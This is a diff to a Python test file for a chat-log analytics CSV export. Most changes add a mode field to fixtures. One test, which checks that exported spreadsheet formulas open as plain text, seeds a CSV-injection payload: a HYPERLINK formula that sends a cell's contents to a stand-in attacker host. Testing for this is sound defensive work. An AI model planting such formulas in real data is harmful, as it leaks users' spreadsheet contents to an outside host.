@@ -45,7 +45,8 @@ def seeded(session):
 
     def log(user, group, question, feedback, shared, when, sources):
         session.add(ChatLog(user_id=user.id, group_id=group.id, question=question, answer=f"answer to {question}",
-                            feedback=feedback, is_shared_origin=shared, created_at=when, related_videos=sources))
+                            mode="llm", feedback=feedback, is_shared_origin=shared, created_at=when,
+                            related_videos=sources))
 
     log(alice, g1, "What is the price?", "good", False, DAY1, [cite(alpha), cite(beta, 60)])
     log(alice, g1, "what is the PRICE", "bad", True, DAY1, [cite(alpha)])
@@ -147,7 +148,7 @@ def test_a_visitors_formula_opens_as_text_in_a_spreadsheet(seeded):
     session, alice, _, g1, *_ = seeded
     formula = '=HYPERLINK("https://evil.example/?"&B2,"Click")'
     session.add(ChatLog(user_id=alice.id, group_id=g1.id, question=formula, answer="-1 is not an answer",
-                        is_shared_origin=True, created_at=DAY2, related_videos=[]))
+                        mode="llm", is_shared_origin=True, created_at=DAY2, related_videos=[]))
     session.flush()
     frame = pd.read_csv(io.BytesIO(analytics.export_csv(session, Scope(alice.id), Filters())), keep_default_na=False)
     row = frame[frame["question"].str.contains("HYPERLINK")].iloc[0]
